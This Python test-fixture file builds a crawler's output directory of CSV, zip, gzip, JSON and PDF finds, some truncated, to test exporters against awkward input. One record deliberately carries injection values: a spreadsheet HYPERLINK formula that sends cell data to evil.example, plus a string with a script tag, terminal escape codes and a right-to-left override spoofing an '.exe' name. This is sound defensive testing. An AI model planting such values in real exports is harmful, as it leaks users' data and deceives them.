"""Crawl directories made by hand, with finds that no exporter likes."""

from __future__ import annotations

import gzip
import hashlib
import io
import zipfile
from dataclasses import replace
from pathlib import Path

from lodehound.core.link import Link
from lodehound.core.messages import Answer, Ask, Choice, Page, Step
from lodehound.drivers.live.inspecting import _row
from lodehound.inspect.files import inspect_file
from lodehound.stores.catalogue.find_rows import FindRow
from lodehound.stores.crawl_dir import CrawlDir

ROOT = "https://s.example/"
CSV = b"region,year,births\nNorth,2020,512\nSouth,2020,498\n"
SEMICOLONS = "Ort;Fl\u00e4che\nK\u00f6ln;405,2\nBonn;141,1\nEssen;210,3\n".encode("cp1252")
TITLED = b"Table 1: births\n\nregion,year,births\nNorth,2020,512\nSouth,2020,498\nsource: us\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
HOSTILE = "<script>alert(1)</script>\x1b[31m\u202egnp.exe\n\x00 \ud800 \u05e9\u05dc\u05d5\u05dd"
LONG = "x" * 5000


def zipped(**members: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return made.getvalue()


def begin(path: Path) -> CrawlDir:
    return CrawlDir.create(path, config=f'{{"urls": ["{ROOT}"]}}', version="1.0")


def add(
    directory: CrawlDir,
    place: str,
    body: bytes,
    mime: str = "text/csv",
    *,
    truncated: bool = False,
    size: int = 0,
    details: str = "",
    **changes: str,
) -> FindRow:
    """FindRow one more file, as a crawl would."""
    url, number = ROOT + place, sum(1 for _ in directory.finds) + 1
    sha256 = "" if truncated else hashlib.sha256(body).hexdigest()
    file = directory.files.save(url, mime=mime, body=body, sha256=sha256)
    find = FindRow(
        number, url, url, file, mime, mime, len(body), size or len(body), truncated, sha256,
        "Sun, 06 Nov 1994 08:49:37 GMT", '"v1"', "", "2026-01-02T03:04:05+00:00", ROOT + "data/",
        "Data", place, "html/body/a", 2, "a reason", details=details,
    )  # fmt: skip
    write(directory, replace(find, **changes))  # type: ignore[arg-type]
    if not truncated:
        seen = inspect_file(directory.path / file, mime)
        directory.finds.inspected(_row(file, seen))
        directory.database.flush()
    return find


def write(directory: CrawlDir, find: FindRow) -> None:
    ask = Ask(find.number, find.final_url, "GET", find.found_on)
    link = Link(find.url, find.found_on, find.tag_path, find.anchor, "", "a", find.depth)
    answer = Answer(ask, 200, find.mime, size=find.size)
    step = Step(
        find.number, find.url, "GET", find.found_on, find.depth, find.why, 1.0, 200, find.mime,
        find.size, found=True, value=1.0, label="", new_links=0, details=find.details,
    )  # fmt: skip
    directory.journal.asked(ask, Choice(link, "GET", 1.0, find.why), ())
    page = Page(find.final_url, "GET", 200, find.mime)
    directory.answered(answer, page, step, at=1.0, find=find)


def fill(directory: CrawlDir) -> None:
    """Find nine files at ten addresses, some of them hostile, two of them truncated."""
    add(directory, "births.csv", CSV, details='{"triples": 3}')
    add(directory, "copy of births.csv", CSV)
    add(directory, "area.csv", SEMICOLONS)
    add(directory, "titled.csv", TITLED)
    add(directory, "cut.csv", CSV[:30], truncated=True, size=9000)
    whole = zipped(a=CSV * 50)
    add(directory, "cut.zip", whole[:50], "application/zip", truncated=True, size=len(whole))
    add(directory, "whole.zip", whole, "application/zip")
    add(directory, "births.csv.gz", gzip.compress(CSV), "application/gzip")
    add(
        directory,
        "a|b[1]%zz%20\u00fc.json",
        b'[{"a": 1}]',
        "application/json",
        anchor=FORMULA,
        page_title=HOSTILE,
        found_on=ROOT + HOSTILE,
        etag="\t@x",
        last_modified="never",
    )
    add(directory, "long.pdf", b"%PDF-1.4 broken", "application/pdf", anchor=LONG, why="-1")
